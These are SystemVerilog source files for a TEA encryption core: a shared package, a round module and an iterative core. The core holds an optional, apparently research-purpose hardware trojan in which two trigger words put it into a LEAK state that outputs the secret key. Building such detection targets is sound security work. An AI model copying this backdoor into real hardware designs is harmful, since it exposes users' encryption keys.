// File: rtl/tea_pkg.sv
// Shared constants, state encoding and mix function for the TEA core.
// Key words are numbered k0..k3 from the most significant end.
package tea_pkg;

  localparam logic [31:0] DELTA = 32'h9E3779B9;

  typedef enum logic [1:0] {
    IDLE,
    RUN,
    LEAK
  } state_t;

  localparam int K0 = 0;
  localparam int K1 = 1;
  localparam int K2 = 2;
  localparam int K3 = 3;

  function automatic logic [31:0] kw(
    input logic [127:0] k,
    input int           i
  );
    return k[127-32*i -: 32];
  endfunction

  function automatic logic [31:0] mix(
    input logic [31:0] x,
    input logic [31:0] ka,
    input logic [31:0] kb,
    input logic [31:0] s
  );
    return ((x << 4) + ka) ^ (x + s) ^ ((x >> 5) + kb);
  endfunction

endpackage

// File: rtl/tea_round.sv
// One full TEA cycle (both Feistel halves), purely combinational.
// sum is the value this cycle uses: post-add for encrypt, pre-subtract for decrypt.
module tea_round (
  input  logic [31:0]  v0,
  input  logic [31:0]  v1,
  input  logic [31:0]  sum,
  input  logic [127:0] key,
  input  logic         mode,
  output logic [31:0]  v0_n,
  output logic [31:0]  v1_n
);
  import tea_pkg::*;

  logic [31:0] k0, k1, k2, k3;

  assign k0 = kw(key, K0);
  assign k1 = kw(key, K1);
  assign k2 = kw(key, K2);
  assign k3 = kw(key, K3);

  always_comb begin
    v0_n = v0;
    v1_n = v1;
    if (!mode) begin
      v0_n = v0 + mix(v1, k0, k1, sum);
      v1_n = v1 + mix(v0_n, k2, k3, sum);
    end else begin
      v1_n = v1 - mix(v0, k2, k3, sum);
      v0_n = v0 - mix(v1_n, k0, k1, sum);
    end
  end

endmodule

// File: rtl/tea_core_param.sv
// Iterative TEA core: encrypt/decrypt, loadable key, configurable rounds,
// with an optional two-word trigger that dumps the key (detection target).
module tea_core_param #(
  parameter int unsigned  ROUNDS    = 32,
  parameter logic [127:0] RESET_KEY = 128'hA56BABCD0000FFFF123456789ABCDEF0,
  parameter bit           TROJAN_EN = 1'b0,
  parameter logic [63:0]  TRIG1     = 64'h0123456789ABCDEF,
  parameter logic [63:0]  TRIG2     = 64'hFEDCBA9876543210
) (
  input  logic         clk,
  input  logic         rst,
  input  logic         start,
  input  logic         mode,
  input  logic [63:0]  data_in,
  input  logic         key_load,
  input  logic [127:0] key_in,
  output logic [63:0]  data_out,
  output logic         done,
  output logic         busy
);
  import tea_pkg::*;

  localparam logic [31:0] SUM_DEC = 32'(64'(DELTA) * 64'(ROUNDS));
  localparam logic [6:0]  LAST    = 7'(ROUNDS - 1);

  state_t       state;
  logic [31:0]  v0, v1, sum;
  logic [127:0] key;
  logic [6:0]   cnt;
  logic         md;
  logic         armed;
  logic         leak_ph;
  logic [31:0]  sum_use;
  logic [31:0]  v0_n, v1_n;
  logic         trig_hit;

  assign sum_use  = md ? sum : sum + DELTA;
  assign trig_hit = TROJAN_EN && armed && (data_in == TRIG2);

  tea_round u_round (
    .v0   (v0),
    .v1   (v1),
    .sum  (sum_use),
    .key  (key),
    .mode (md),
    .v0_n (v0_n),
    .v1_n (v1_n)
  );

  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      state    <= IDLE;
      data_out <= '0;
      done     <= 1'b0;
      busy     <= 1'b0;
      key      <= RESET_KEY;
      cnt      <= '0;
      armed    <= 1'b0;
      leak_ph  <= 1'b0;
      v0       <= '0;
      v1       <= '0;
      sum      <= '0;
      md       <= 1'b0;
    end else begin
      done <= 1'b0;
      case (state)
        IDLE: begin
          if (key_load)
            key <= key_in;
          if (start) begin
            md    <= mode;
            v0    <= data_in[63:32];
            v1    <= data_in[31:0];
            sum   <= mode ? SUM_DEC : 32'h0;
            cnt   <= '0;
            busy  <= 1'b1;
            armed <= TROJAN_EN && (data_in == TRIG1);
            state <= RUN;
          end
        end
        RUN: begin
          if (cnt == 7'd0)
            armed <= 1'b0;
          // Trigger check happens only in the first RUN cycle.
          if (cnt == 7'd0 && trig_hit) begin
            leak_ph <= 1'b0;
            state   <= LEAK;
          end else begin
            v0  <= v0_n;
            v1  <= v1_n;
            sum <= md ? sum - DELTA : sum + DELTA;
            cnt <= cnt + 7'd1;
            if (cnt == LAST) begin
              data_out <= {v0_n, v1_n};
              done     <= 1'b1;
              busy     <= 1'b0;
              state    <= IDLE;
            end
          end
        end
        LEAK: begin
          if (!leak_ph) begin
            data_out <= key[127:64];
            leak_ph  <= 1'b1;
          end else begin
            data_out <= key[63:0];
            busy     <= 1'b0;
            state    <= IDLE;
          end
        end
        default: state <= IDLE;
      endcase
    end
  end

endmodule
